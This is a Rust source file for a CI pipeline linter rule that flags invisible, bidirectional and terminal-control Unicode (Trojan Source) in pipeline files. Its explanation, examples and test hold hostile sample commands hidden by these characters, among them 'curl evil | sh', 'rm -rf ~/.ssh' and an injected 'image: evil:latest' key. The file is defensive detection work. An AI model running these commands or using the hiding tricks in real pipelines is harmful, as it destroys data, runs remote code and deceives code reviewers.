//! PL6007 invisible-unicode: Invisible or bidirectional Unicode in a string (Trojan Source).

use crate::FileCx;
use plumb_diagnostics::{Diagnostic, FileId, FileRange, TextRange};

declare_rule! {
    code: PL6007,
    summary: r####"Invisible or bidirectional Unicode in a string or comment (Trojan Source)."####,
    explanation: r####"Bidirectional controls (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C) reorder how text is displayed, so a script reads one way in review and runs another (CVE-2021-42574, "Trojan Source"). Zero-width and other invisible characters (U+200B–U+200D, U+2060–U+2064, U+FEFF, U+180E, U+00AD, the tag characters U+E0000–U+E007F, the blank fillers U+3164, U+115F, U+1160, U+FFA0 and U+2800, U+034F, U+17B4–U+17B5, U+1D173–U+1D17A) hide text in plain sight, or make two names that look the same differ. Terminal controls do the same where the file is shown in a terminal (`cat`, a pager, `git diff`): an ESC sequence can erase the line and a carriage return (one not ending a line) sends the cursor back, so `rm -rf ~/.ssh; ./publish.sh #ESC[2K CR echo running unit tests` shows as `echo running unit tests`. The line and paragraph separators (U+2028, U+2029) and NEL (U+0085) end a line for GitLab's YAML reader (YAML 1.1) but not in an editor, so `- echo ok<U+2028>  image: evil:latest` is one script line on screen and an `image:` key to GitLab. None belongs in a pipeline: remove it, or write it as an escape where a program needs it."####,
    bad: "pipeline p {\n  stage s { job j { image = \"busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\", run = [\"echo ok \u{202E} ; curl evil | sh\"] } } }",
    good: r####"pipeline p {
  stage s { job j { image = "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91", run = ["echo ok"] } } }"####,
    file: check_file,
}

/// The name of a character this rule reports, if it is one (the table is the lexer's:
/// the importer writes each such character as an escape).
pub fn invisible(c: char) -> Option<&'static str> {
    plumb_syntax::invisible::name(c)
}

/// A picture an emoji sequence joins: pictographs and dingbats (not the modifiers that
/// may follow one).
fn is_pictograph(c: char) -> bool {
    matches!(c, '\u{1F000}'..='\u{1FAFF}' | '\u{2600}'..='\u{27BF}' | '\u{2B00}'..='\u{2BFF}')
        && !is_emoji_modifier(c)
}

/// The emoji variation selector and the skin tones, which follow a pictograph.
fn is_emoji_modifier(c: char) -> bool {
    matches!(c, '\u{FE0F}' | '\u{1F3FB}'..='\u{1F3FF}')
}

/// Whether a joiner stands between pictographs: the base before it (with at most two
/// modifiers after that base) and the first character after it that is no modifier.
fn joins_pictographs(before: Option<(char, usize)>, after: &str) -> bool {
    let before = before.is_some_and(|(c, modifiers)| modifiers <= 2 && is_pictograph(c));
    let mut next = after.chars().take(3).skip_while(|c| is_emoji_modifier(*c));
    before && next.next().is_some_and(is_pictograph)
}

fn check_file(cx: &FileCx, out: &mut Vec<Diagnostic>) {
    out.extend(findings_in(cx.file, cx.text));
}

/// The invisible characters of a file's text as written: a Plumb file, or a GitLab CI
/// YAML file (where an escape such as `"\u200b"` is no finding, and a comment is read
/// too).
pub fn findings_in(file: FileId, text: &str) -> Vec<Diagnostic> {
    let mut out = Vec::new();
    // the last character that is no emoji modifier, and how many modifiers follow it
    let mut base: Option<(char, usize)> = None;
    for (i, c) in text.char_indices() {
        let before = base;
        base = match (is_emoji_modifier(c), base) {
            (true, Some((b, n))) => Some((b, n + 1)),
            _ => Some((c, 0)),
        };
        // a byte-order mark opening the file is an encoding marker, not content
        if i == 0 && c == '\u{FEFF}' {
            continue;
        }
        // a joiner between two pictographs (👩‍💻, 👍🏽‍…) draws one picture: nothing hides
        if c == '\u{200D}' && joins_pictographs(before, &text[i + c.len_utf8()..]) {
            continue;
        }
        // a line that ends in CR LF is Windows text, not a rewritten line
        if c == '\r' && text[i + 1..].starts_with('\n') {
            continue;
        }
        let Some(name) = invisible(c) else { continue };
        let at = FileRange {
            file,
            range: TextRange::new(i, i + c.len_utf8()),
        };
        out.push(
            Diagnostic::new(
                RULE.code,
                RULE.severity(),
                at,
                format!(
                    "invisible character U+{:04X} {name}: the text does not read as it runs",
                    c as u32
                ),
            )
            .with_label("an invisible character is here")
            .with_help("remove it; where a program needs it, write it as an escape")
            .with_fix(
                "remove the invisible character",
                vec![plumb_diagnostics::Edit {
                    at,
                    replacement: String::new(),
                }],
            ),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A carriage return that ends a line (CR LF) is Windows text; one inside a line
    /// sends the cursor back over what was shown.
    #[test]
    fn a_lone_carriage_return_is_reported_and_cr_lf_is_not() {
        let codes = |text: &str| findings_in(FileId(0), text).len();
        assert_eq!(codes("run = [\"rm -rf ~ #\recho ok\"]\r\n"), 1);
        assert_eq!(codes("a = 1\r\nb = 2\r\n"), 0);
        assert_eq!(codes("tab\there\n"), 0);
        assert_eq!(codes("bell\u{7} and escape \u{1b}[8m"), 2);
    }
}
